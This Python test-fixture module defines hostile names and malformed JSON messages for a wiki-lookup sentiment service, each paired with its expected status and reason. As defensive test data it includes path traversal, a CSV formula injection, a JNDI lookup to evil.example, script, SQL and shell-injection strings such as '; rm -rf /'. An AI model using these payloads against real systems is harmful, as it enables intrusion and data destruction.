"""Hostile names and messages, each with the one place where it ends, and why.

The wiki that they are looked up in has the articles of ARTICLES and no others.
"""

import base64
import hashlib
import json
from dataclasses import dataclass
from typing import Final

from name_sentiment.result_format import Status

ARTICLES = ("Netflix", "Apple Inc.", "AC/DC", "AT&T", "Café", "C", "K", "日本")

DEAD_LETTER: Final = "dead letter"
"""It names nothing that could be looked up: it goes back, and is moved to the dead-letter queue."""

SCORED, MISSING, INVALID = Status.SCORED, Status.MISSING, Status.INVALID


@dataclass(frozen=True)
class Case:
    """A message. It ends as a dead letter, or as the result of `name` in the object `key`."""

    body: str
    ends: Status | str
    why: str
    name: str = ""
    key: str = ""


def name(name: str, ends: Status | str, key: str, why: str) -> Case:
    """A well-formed message with a hostile name."""
    return Case(json.dumps({"name": name}), ends, why, name, f"{key}_sentiment.csv" if key else "")


def message(body: str, ends: Status | str, why: str, name: str = "Netflix", key: str = "Netflix") -> Case:
    """A hostile message, whose name, if any, is a good one."""
    return (
        Case(body, ends, why) if ends == DEAD_LETTER else Case(body, ends, why, name, f"{key}_sentiment.csv")
    )


def shortened(name: str, beginning: str) -> str:
    """The key of a name that is too long to be a file's: its beginning, and the SHA-256 of the whole."""
    return f"{beginning}%~{hashlib.sha256(name.encode()).hexdigest()}"


TWO_WORDS = "Cafe\u0301"  # the same to a reader as Café, in other code points
SMILES = "😀" * 63 + "abc"
QA = "\u0958"  # of 3 bytes; in normal form C it is two characters of 3 bytes each
NETFLIX = '{"name": "Netflix"'

# fmt: off
NAMES = [
    # Paths
    name("../../etc/passwd", INVALID, "%2E.%2F..%2Fetc%2Fpasswd", "a title cannot be relative"),
    name("..\\..\\windows\\system32", MISSING, "%2E.%5C..%5Cwindows%5Csystem32", "a backslash is text"),
    name("/etc/passwd", MISSING, "%2Fetc%2Fpasswd", "a slash may begin a title"),
    name(".", INVALID, "%2E", "a title cannot be relative"),
    name("..", INVALID, "%2E.", "a title cannot be relative"),
    name(".hidden", MISSING, "%2Ehidden", "a file that begins with a dot would not be seen"),
    name("AC/DC", SCORED, "AC%2FDC", "a slash makes no folder"),
    name("C:\\Users", MISSING, "C%3A%5CUsers", "no drive and no folder"),
    name("a:stream", MISSING, "a%3Astream", "no alternate data stream of NTFS"),
    name("~root", MISSING, "~root", "a tilde is home to a shell alone"),
    name("-rf", MISSING, "-rf", "a hyphen makes a legal file name"),
    name("*", MISSING, "%2A", "no wildcard"),
    name("?query=1&x=2", MISSING, "%3Fquery%3D1%26x%3D2", "no query to S3"),
    # Windows devices, and what Windows would cut off
    name("CON", MISSING, "CON", "CON_sentiment.csv is no device"),
    name("con.txt", MISSING, "con%2Etxt", "con.txt_sentiment.csv would be the console"),
    name("AUX.", MISSING, "AUX%2E", "likewise"),
    name("LPT1.x", MISSING, "LPT1%2Ex", "likewise a printer"),
    name("nul.tar.gz", MISSING, "nul%2Etar.gz", "up to the first dot is what counts"),
    name("COM¹.x", MISSING, "COM%C2%B9.x", "Windows takes the superscript for a digit"),
    name("a.", MISSING, "a.", "the dot is not the last of the file name"),
    name("Netflix ", SCORED, "Netflix%20", "nor is the space; to the wiki it is not there"),
    # Formulas
    name("=1+1", MISSING, "%3D1%2B1", "disarmed in the file"),
    name("+1", MISSING, "%2B1", "disarmed in the file"),
    name("-1", MISSING, "-1", "disarmed in the file"),
    name("@SUM(A1)", MISSING, "%40SUM%28A1%29", "disarmed in the file"),
    name("\t=1", MISSING, "%09%3D1", "disarmed; the wiki does not see the tab"),
    name("\r=1", MISSING, "%0D%3D1", "disarmed; the wiki does not see the carriage return"),
    name("'=1", MISSING, "%27%3D1", "one apostrophe more, so that it is told from =1"),
    name("=cmd|'/C calc'!A0", INVALID, "%3Dcmd%7C%27%2FC%20calc%27%21A0", "a title cannot hold a pipe"),
    # Control characters
    name("a\x00b", INVALID, "a%00b", "the wiki would replace the NUL"),
    name("a\nb", INVALID, "a%0Ab", "a title is one line"),
    name("a\r\nb", INVALID, "a%0D%0Ab", "a title is one line"),
    name("\x1b[31mred", INVALID, "%1B%5B31mred", "a terminal would obey the escape"),
    name("a\x7fb", INVALID, "a%7Fb", "delete is a control character"),
    name("a\x85b", INVALID, "a%C2%85b", "so is next line"),
    name("\x1fNetflix\x1fHulu", INVALID, "%1FNetflix%1FHulu", "it would separate titles in a request"),
    name("\x1f", DEAD_LETTER, "", "white space, and so blank"),
    # What cannot be seen
    name("\u202eNetflix", SCORED, "%E2%80%AENetflix", "the wiki drops marks of writing direction"),
    name("\u200eNetflix", SCORED, "%E2%80%8ENetflix", "the wiki drops marks of writing direction"),
    name("Net\u200bflix", MISSING, "Net%E2%80%8Bflix", "a space without width makes another title"),
    name("\ufeffNetflix", MISSING, "%EF%BB%BFNetflix", "so does a byte order mark"),
    name("\u3000Netflix", SCORED, "%E3%80%80Netflix", "an ideographic space is a space"),
    name("Net\u00a0flix", MISSING, "Net%C2%A0flix", "so is one that does not break: Net flix"),
    name("\u200b", MISSING, "%E2%80%8B", "no white space, and so not blank"),
    name("\u3000", DEAD_LETTER, "", "blank"),
    name("_", INVALID, "_", "to the wiki an underscore is a space"),
    # No characters
    name("a\uffffb", INVALID, "a%EF%BF%BFb", "not clean Unicode to the wiki"),
    name("\ufffd", INVALID, "%EF%BF%BD", "what a broken character was replaced with"),
    name("a\ud800b", DEAD_LETTER, "", "half a surrogate pair has no UTF-8"),
    name("\udc00\ud800", DEAD_LETTER, "", "two halves in the wrong order make no whole"),
    # Names that differ in little
    name("netflix", SCORED, "netflix", "the first letter's case does not matter to the wiki"),
    name("Netflix", SCORED, "Netflix", "a name of its own beside netflix"),
    name("NETFLIX", MISSING, "NETFLIX", "the other letters' case does matter"),
    name("Apple_Inc.", SCORED, "Apple_Inc.", "an underscore is a space"),
    name("Apple Inc.", SCORED, "Apple%20Inc.", "and a name of its own beside the underscore"),
    name("  Apple   Inc.  ", SCORED, "%20%20Apple%20%20%20Inc.%20%20", "spaces are single to the wiki"),
    name("Café", SCORED, "Caf%C3%A9", "composed"),
    name(TWO_WORDS, SCORED, "Cafe%CC%81", "decomposed: the same page, a name of its own"),
    name("\u212a", SCORED, "%E2%84%AA", "the sign for kelvin is composed to K"),
    # Length
    name("a" * 255, MISSING, shortened("a" * 255, "a" * 175), "as long as a title may be"),
    name("a" * 256, DEAD_LETTER, "", "no title is longer than 255 bytes"),
    name(SMILES, MISSING, shortened(SMILES, "%F0%9F%98%80" * 14 + "%F0%9F"), "255 bytes, 66 characters"),
    name("😀" * 64, DEAD_LETTER, "", "256 bytes, though 64 characters"),
    name(QA * 85, INVALID, shortened(QA * 85, "%E0%A5%98" * 19 + "%E0"), "255 bytes, to the wiki 510"),
    # What a title cannot hold
    name("a|b", INVALID, "a%7Cb", "a pipe"),
    name("<script>alert(1)</script>", INVALID, "%3Cscript%3Ealert%281%29%3C%2Fscript%3E", "angle brackets"),
    name("${jndi:ldap://evil.example}", INVALID, "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%7D", "braces"),
    name("{{7*7}}", INVALID, "%7B%7B7%2A7%7D%7D", "braces"),
    name("[x]", INVALID, "%5Bx%5D", "square brackets"),
    name("C#", INVALID, "C%23", "the wiki would answer with C"),
    name("C&num;", INVALID, "C%26num%3B", "to the wiki this is C#"),
    name("#tag", INVALID, "%23tag", "nothing but a section"),
    name("~~~", INVALID, "~~~", "a signature to the wiki"),
    name("::", INVALID, "%3A%3A", "a title cannot begin with a colon"),
    # Namespaces and other sites
    name("Special:Export", INVALID, "Special%3AExport", "a special page is no article"),
    name("wikt:dog", INVALID, "wikt%3Adog", "a page of another wiki"),
    name("File:x.png", MISSING, "File%3Ax.png", "a file that is not there"),
    name(":Netflix", SCORED, "%3ANetflix", "a colon first means an article"),
    # Encodings within encodings
    name("%00", INVALID, "%2500", "a title cannot hold percent-encoding"),
    name("%2e%2e%2fetc", INVALID, "%252e%252e%252fetc", "a title cannot hold percent-encoding"),
    name("100%", MISSING, "100%25", "a percent sign alone may stand in a title"),
    name("%~3f40e64d", MISSING, "%25~3f40e64d", "looks like a shortened key, and is none"),
    name("AT&T", SCORED, "AT%26T", "an ampersand separates nothing"),
    name("AT&amp;T", SCORED, "AT%26amp%3BT", "the wiki reads character references"),
    name("&lt;script&gt;", INVALID, "%26lt%3Bscript%26gt%3B", "and finds angle brackets in these"),
    name("CafÃ©", MISSING, "Caf%C3%83%C2%A9", "UTF-8 once read as Latin-1 cannot be told from a name"),
    # What databases, shells and readers of CSV would make something of
    name("' OR 1=1 --", MISSING, "%27%20OR%201%3D1%20--", "nobody asks a database"),
    name("; rm -rf /", MISSING, "%3B%20rm%20-rf%20%2F", "nobody asks a shell"),
    name("$(reboot)`id`", MISSING, "%24%28reboot%29%60id%60", "nobody asks a shell"),
    name('"quoted", name', MISSING, "%22quoted%22%2C%20name", "one cell all the same"),
    name("NA", MISSING, "NA", "text, and not a missing value"),
    name("007", MISSING, "007", "text, and not a number"),
    name("Netflix_sentiment.csv", MISSING, "Netflix_sentiment.csv", "not the result of Netflix"),
    # Other scripts
    name("日本", SCORED, "%E6%97%A5%E6%9C%AC", "as good a name as any"),
    name("שלום", MISSING, "%D7%A9%D7%9C%D7%95%D7%9D", "right to left"),
    name("👨\u200d👩\u200d👧", MISSING, "%F0%9F%91%A8%E2%80%8D%F0%9F%91%A9%E2%80%8D%F0%9F%91%A7", "three"),
]

MESSAGES = [
    # No JSON
    message("", DEAD_LETTER, "empty"),
    message(" \n", DEAD_LETTER, "empty"),
    message("Netflix", DEAD_LETTER, "no JSON"),
    message("{'name': 'Netflix'}", DEAD_LETTER, "Python, and no JSON"),
    message(NETFLIX, DEAD_LETTER, "cut short"),
    message(NETFLIX + ",}", DEAD_LETTER, "a comma too many"),
    message(NETFLIX + "} {}", DEAD_LETTER, "two documents"),
    message(NETFLIX + "}\x00", DEAD_LETTER, "a NUL behind it"),
    message("\ufeff" + NETFLIX + "}", DEAD_LETTER, "a byte order mark is no JSON"),
    message('{"name": "Net\nflix"}', DEAD_LETTER, "JSON escapes its line breaks"),
    message((NETFLIX + "}").encode("utf-16-le").decode("latin-1"), DEAD_LETTER, "UTF-16 read as Latin-1"),
    message(base64.b64encode((NETFLIX + "}").encode()).decode(), DEAD_LETTER, "base64"),
    message("<name>Netflix</name>", DEAD_LETTER, "XML"),
    message("[" * 100_000, DEAD_LETTER, "nested beyond what Python reads"),
    message(NETFLIX + ', "x": ' + "[" * 100_000 + "]" * 100_000 + "}", DEAD_LETTER, "likewise"),
    message(NETFLIX + ', "x": ' + "9" * 5_000 + "}", DEAD_LETTER, "a number beyond what Python reads"),
    # JSON, but no object
    *(
        message(body, DEAD_LETTER, "no object")
        for body in ("null", "true", "7", "-0", "1e999", "NaN", '"Netflix"', "[]", '[{"name": "Netflix"}]')
    ),
    # No usable name
    message("{}", DEAD_LETTER, "no name"),
    message('{"Name": "Netflix"}', DEAD_LETTER, "fields are told apart by case"),
    message('{"Records": [{"body": "{}"}]}', DEAD_LETTER, "an event in a message"),
    message('{"Type": "Notification", "Message": "{}"}', DEAD_LETTER, "a notification of SNS"),
    *(
        message(f'{{"name": {value}}}', DEAD_LETTER, "a name is text")
        for value in ("null", "7", "true", "1e999", '["Netflix"]', '{"S": "Netflix"}', "9" * 4_000)
    ),
    message('{"name": ""}', DEAD_LETTER, "blank"),
    message('{"name": " \\t\\u00a0"}', DEAD_LETTER, "blank"),
    message('{"name": "' + "a" * 1_000_000 + '"}', DEAD_LETTER, "a megabyte of name"),
    message('{"name": "\\ud83d"}', DEAD_LETTER, "half a surrogate pair"),
    message('{"name": "Netflix", "name": null}', DEAD_LETTER, "of two fields the last one counts"),
    # A title that is none
    *(
        message(f'{NETFLIX}, "title": {value}}}', DEAD_LETTER, "a title, where given, can be a page's")
        for value in ("7", "false", "[]", "{}", '" "', '"\\udc00"', f'"{"a" * 256}"')
    ),
    message(NETFLIX + ', "title": "a|b"}', INVALID, "a title decides, even one that no page can have"),
    message(NETFLIX + ', "title": "No such page"}', MISSING, "a title decides, even a missing page's"),
    # Odd, but good
    message(NETFLIX + ', "title": null}', SCORED, "no title"),
    message(NETFLIX + ', "title": ""}', SCORED, "no title"),
    message(NETFLIX + ', "title": "Apple Inc."}', SCORED, "another page"),
    message('{"title": "Netflix", "name": "x"}', SCORED, "in any order", name="x", key="x"),
    message('{"name": "Hulu", "name": "Netflix"}', SCORED, "of two fields the last one counts"),
    message(NETFLIX + ', "run_id": {"$gt": ""}}', SCORED, "a run that is no text is left aside"),
    message(NETFLIX + ', "status": "empty", "key": "../x"}', SCORED, "unknown fields are ignored"),
    message(NETFLIX + ', "__class__": "os.system", "$ref": "#/name"}', SCORED, "unknown fields are ignored"),
    message(NETFLIX + ', "x": NaN, "y": -Infinity, "z": 1e999}', SCORED, "unknown fields are ignored"),
    message(NETFLIX + ', "x": "\\ud800\\u0000"}', SCORED, "unknown fields are ignored"),
    message(NETFLIX + ', "x": "' + "a" * 1_000_000 + '"}', SCORED, "a megabyte beside the name"),
    message(NETFLIX + ', "x": ' + "[" * 100 + "]" * 100 + "}", SCORED, "nested within reason"),
    message(f"\r\n\t {NETFLIX}}} \n", SCORED, "white space around it"),
    message('{"\\u006eame": "\\u004eetflix"}', SCORED, "JSON may escape what it need not"),
    message('{"name": "\\ud83d\\ude00"}', MISSING, "a whole pair is a character", "😀", "%F0%9F%98%80"),
]
# fmt: on

CASES = [*NAMES, *MESSAGES]
